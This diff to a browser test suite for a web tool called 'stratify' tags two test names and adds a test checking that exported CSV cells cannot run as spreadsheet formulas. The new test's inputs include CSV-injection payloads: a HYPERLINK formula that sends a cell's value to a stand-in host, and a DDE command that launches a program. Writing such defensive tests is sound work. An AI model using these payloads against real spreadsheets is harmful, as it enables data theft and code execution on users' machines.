@@ -202,7 +202,7 @@ describe('stratify', () => {
     await close();
   });
 
-  test('a link holds the findings behind the #, and opens them', async () => {
+  test('a link holds the findings behind the #, and opens them [claims: link-on-request]', async () => {
     const { page, requests, close } = await cleared();
     await page.fill('input[name="age_days"]', '100');
     await choose(page, 'kmt2a', 'germline');
@@ -220,7 +220,7 @@ describe('stratify', () => {
     await close();
   });
 
-  test('dates stay out of a link, the age they give goes in', async () => {
+  test('dates stay out of a link, the age they give goes in [claims: link-on-request]', async () => {
     const { page, close } = await cleared();
     await page.click(`${id('field-age_days')} button:text("dates")`);
     await page.fill('input[name="birth_date"]', '2026-01-01');
@@ -322,6 +322,22 @@ describe('stratify', () => {
     await table.locator('button', { hasText: /^3$/ }).click();
     assert.equal(await page.isChecked('input[name="kmt2a"][value="ptd"]'), true);
     assert.deepEqual(faults, []);
+    await close();
+  });
+
+  test('no cell of the table of answers is run by a spreadsheet', async () => {
+    const { page, close } = await open(chrome);
+    await visit(page, site, 'stratify/');
+    const ids = ['=HYPERLINK("http://x/?"&B2,"open")', '=cmd|\' /C calc\'!A0', '@SUM(1+1)', '\t=1+1', 'a;=1+1', '-2+3', '-5', 'S1'];
+    const text = `id,age_days,wbc\n${ids.map(name => `"${name.replaceAll('"', '""')}",100,20`).join('\n')}\n`;
+    await page.setInputFiles(id('csv-input'), { name: 'a.csv', mimeType: 'text/csv', buffer: Buffer.from(text) });
+    await page.locator(id('csv-table')).waitFor();
+    const [file] = await Promise.all([page.waitForEvent('download'), page.click(id('csv-download'))]);
+    const lines = readFileSync(await file.path(), 'utf8').trim().split('\n').slice(1);
+    for (const cell of lines.flatMap(line => line.split(/[,;\t]/))) {
+      assert.ok(/^-?[0-9.]+$/.test(cell) || !/^["\s]*[=+\-@]/.test(cell), cell);
+    }
+    assert.ok(lines.some(line => line.startsWith('-5,')), 'a number stays one');
     await close();
   });
 
